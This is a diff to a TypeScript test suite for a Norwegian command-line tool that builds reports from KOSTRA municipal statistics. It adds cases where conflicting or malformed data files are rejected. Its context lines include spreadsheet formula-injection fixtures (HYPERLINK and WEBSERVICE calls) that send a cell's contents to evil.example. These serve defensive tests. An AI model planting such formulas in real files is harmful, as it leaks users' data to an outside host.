@@ -18,11 +18,14 @@ import JSZip from "jszip";
 import type { FetchIo } from "../../../src/cli/fetch";
 import { main } from "../../../src/cli/main";
 import { MAX_FILE_BYTES } from "../../../src/kostra/limits";
+import { clearKostraGroups } from "../../../src/kostra/registry/aggregates";
 import { hasXmlForbidden } from "../../../src/kostra/safe-text";
+import type { Dataset } from "../../../src/kostra/types";
 import { buildReport } from "../../../src/report/report";
 import { readDataFile } from "../../../src/sources/file";
 import { writeObservationsFile } from "../../../src/sources/observations-file";
 import { sampleDataset } from "../../../src/sources/sample";
+import { syntheticDataset } from "../../support/groups-dataset";
 
 const ROOT = join(__dirname, "..", "..", "..");
 const HOSTILE = join(ROOT, "tests", "fixtures", "hostile", "files");
@@ -58,6 +61,9 @@ interface Case {
   /** Words the one-line message must contain (nb). */
   words: RegExp[];
 }
+
+/** A KOSTRA grouping record as `kostra fetch` saves it (SYNTHETIC memberships). */
+const grouping = (year: number, groups: Record<string, string>): Json => ({ year, date: `${year}-01-01`, source: `SSB Klass 131→112, ${year}-01-01 (SYNTETISK)`, groups });
 
 const HYPERLINK = { formula: 'HYPERLINK("http://evil.example/?"&A2,"Klikk her")' };
 const WEBSERVICE = { formula: 'WEBSERVICE("http://evil.example/?"&A2)' };
@@ -108,6 +114,26 @@ const CASES: Case[] = [
   { name: "Infinity (1e309) in a CSV", file: "infinity.csv", content: () => `${CSV_HEADER}0219;bibliotek;2017;1e309;\n`, words: [/infinity\.csv linje 2, felt «verdi»: «1e309» er ikke et endelig tall/] },
   { name: "a quarter in a CSV", file: "quarter.csv", content: () => `${CSV_HEADER}0219;bibliotek;2017K1;1;\n0219;bibliotek;2017K2;2;\n`, words: [/felt «år»: «2017K1» er en tidskode for del av et år/] },
   { name: "conflicting rows in a CSV", file: "conflict.csv", content: () => `${CSV_HEADER}0219;bibliotek;2017;1;\n0219 Bærum;bibliotek;2017;2;\n`, words: [/conflict\.csv linje 3: samme kommune, indikator og år som linje 2 \(0219 Bærum, bibliotek, 2017\), med en annen verdi/] },
+  {
+    name: "Oslo's code on a Bærum figure in a fetch file",
+    file: "wrong-code.json",
+    content: () => change(fetchFile(), (f) => (f.observations.find((o: Json) => o.municipality === "baerum" && o.year === 2017 && o.indicator === "kunstformidling").code = "0301")),
+    words: [/«observations\[\d+\]\.code»: koden «0301» gjelder ikke Bærum i 2017 \(Bærum hadde 0219\)/],
+  },
+  {
+    name: "Ålesund's code on a Haram figure while Haram was part of Ålesund",
+    file: "haram-2021.json",
+    content: () => change(fetchFile(), (f) => f.observations.push({ indicator: "kunstformidling", municipality: "haram", year: 2021, code: "1507", value: 1, provenance: 0 })),
+    words: [/koden «1507» gjelder ikke Haram i 2021 \(Haram hadde ingen egen kode i 2021; den var en del av Ålesund\)/],
+  },
+  {
+    name: "two KOSTRA groupings for one year in a fetch file",
+    file: "two-groupings.json",
+    content: () => change(fetchFile(), (f) => (f.kostraGroups = [grouping(2017, { ha: "ekg07" }), grouping(2017, { ha: "ekg08" })])),
+    words: [/«kostraGroups\[1\]\.year»: 2017 står også i «kostraGroups\[0\]»/],
+  },
+  { name: "a CSV with the value column twice", file: "two-values.csv", content: () => "region;indikator;år;verdi;verdi\n0219;kunstformidling;2017;100;141\n", words: [/two-values\.csv linje 1: kolonnen «verdi» står to ganger \(kolonne 4 og 5\)/] },
+  { name: "a CSV row for Haram while it was part of Ålesund", file: "haram.csv", content: () => `${CSV_HEADER}1534 Haram;bibliotek;2021;5;\n`, words: [/haram\.csv linje 2: «1534 Haram» er Haram, som ikke hadde eget kommunenummer i 2021 \(den var en del av Ålesund\)/] },
 ];
 
 describe("hostile data files given to kostra report", () => {
@@ -208,5 +234,81 @@ describe("a valid file with formula-like and XML-forbidden text", () => {
       const xml = await part.async("string");
       expect(() => execFileSync("xmllint", ["--noout", "-"], { input: xml, stdio: ["pipe", "pipe", "pipe"] })).not.toThrow();
     }
+  });
+});
+
+describe("several data files given together", () => {
+  const PROFILE = ["profile", "--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017", "--format", "json"];
+  const kunst = (json: Json) => json.rows.find((r: Json) => r.indicator.id === "kunstformidling");
+  const sampleKunst = () => fetchFile().observations.find((o: Json) => o.municipality === "baerum" && o.year === 2017 && o.indicator === "kunstformidling").value as number;
+  const write = (name: string, content: Json | string) => {
+    const path = join(dir, name);
+    writeFileSync(path, typeof content === "string" ? content : JSON.stringify(content));
+    return path;
+  };
+
+  beforeEach(() => writeFileSync(OUT, PREVIOUS));
+  afterEach(() => clearKostraGroups());
+
+  it("refuses a figure two files disagree on (Bærum kunstformidling 2017 = 141 and 100): exit 2, one line naming both files and the codes", async () => {
+    const a = write("hentet.json", fetchFile());
+    const b = write("egne.csv", `${CSV_HEADER}0219;kunstformidling;2017;100;\n`);
+    const inputs = [readFileSync(a), readFileSync(b)];
+    const before = readdirSync(dir).sort();
+    const r = await kostra([...REPORT, "--input", a, "--input", b]);
+    expect(r.code).toBe(2);
+    expect(r.out).toBe("");
+    expect(r.err).toBe(
+      `kostra: egne.csv: samme kommune, indikator og år som i hentet.json (0219 Bærum, kunstformidling, 2017), med en annen verdi (100, ikke ${sampleKunst()}). Filene er uenige: rett eller fjern tallet i den ene.\n`,
+    );
+    expect(readFileSync(a).equals(inputs[0])).toBe(true);
+    expect(readFileSync(b).equals(inputs[1])).toBe(true);
+    expect(readFileSync(OUT).equals(PREVIOUS)).toBe(true);
+    expect(readdirSync(dir).sort()).toEqual(before);
+    const en = await kostra([...REPORT, "--input", a, "--input", b, "--lang", "en"]);
+    expect(en.err).toMatch(/^kostra: egne\.csv: same municipality, indicator and year as in hentet\.json \(0219 Bærum, kunstformidling, 2017\), with another value \(100, not \d+(\.\d+)?\)\. The files disagree: correct or remove the figure in one of them\.\n$/);
+  });
+
+  it("uses the same figure in a fetch file and a CSV once (exit 0), whichever comes first", async () => {
+    const a = write("hentet.json", fetchFile());
+    const b = write("samme.csv", `${CSV_HEADER}0219;kunstformidling;2017;${String(sampleKunst()).replace(".", ",")};\n`);
+    for (const order of [[a, b], [b, a]]) {
+      const r = await kostra([...PROFILE, ...order.flatMap((p) => ["--input", p])]);
+      // Only the notice every view of synthetic figures carries.
+      expect(r.err).toMatch(/^Eksempeldata \(syntetiske\)[^\n]*\n$/);
+      expect(r.code).toBe(0);
+      expect(kunst(JSON.parse(r.out)).value).toBe(sampleKunst());
+    }
+  });
+
+  it("lays files over the sample with --sample: a file's figure replaces the sample's", async () => {
+    const b = write("rettet.csv", `${CSV_HEADER}0219;kunstformidling;2017;100;\n`);
+    const r = await kostra([...PROFILE, "--sample", "--input", b]);
+    expect(r.code).toBe(0);
+    expect(kunst(JSON.parse(r.out)).value).toBe(100);
+  });
+
+  describe("KOSTRA groupings in several fetch files", () => {
+    const HA = ["profile", "--sector", "plan-miljo-kultur", "--municipality", "1119", "--year", "2021", "--network", "none", "--compare", "", "--base", "kostragruppe", "--format", "json"];
+    const withGroups = (dataset: Dataset, groups: Json[]) => ({ ...JSON.parse(writeObservationsFile(dataset, { createdAt: new Date("2026-01-01T00:00:00Z") })), kostraGroups: groups });
+    const empty: Dataset = { observations: [], provenance: [] };
+
+    it("merges one year's grouping from two files: Hå's group is known from the first though the second names others", async () => {
+      const a = write("ha.json", withGroups(syntheticDataset(), [grouping(2021, { ha: "ekg07" })]));
+      const b = write("time.json", withGroups(empty, [grouping(2021, { time: "ekg07", oslo: "ekg13" })]));
+      const r = await kostra([...HA, "--input", a, "--input", b]);
+      expect(r.err).not.toMatch(/KOSTRA-gruppe/);
+      expect(r.code).toBe(0);
+      expect(JSON.parse(r.out).base).toEqual({ id: "ekg07", code: "EKG07", name: "KOSTRA-gruppe 7" });
+    });
+
+    it("refuses Hå in group 7 in one file and group 8 in another: exit 2 naming both files, Hå and the year", async () => {
+      const a = write("ha.json", withGroups(syntheticDataset(), [grouping(2021, { ha: "ekg07" })]));
+      const b = write("ha-8.json", withGroups(empty, [grouping(2021, { time: "ekg07", ha: "ekg08" })]));
+      const r = await kostra([...HA, "--input", a, "--input", b]);
+      expect(r.code).toBe(2);
+      expect(r.out).toBe("");
+      expect(r.err).toBe("kostra: ha-8.json: «kostraGroups[0].groups.ha»: Hå (1119) er i KOSTRA-gruppe 8 i 2021, men i KOSTRA-gruppe 7 i ha.json. Filene er uenige: bruk grupperingen fra én av dem.\n");
+    });
   });
 });
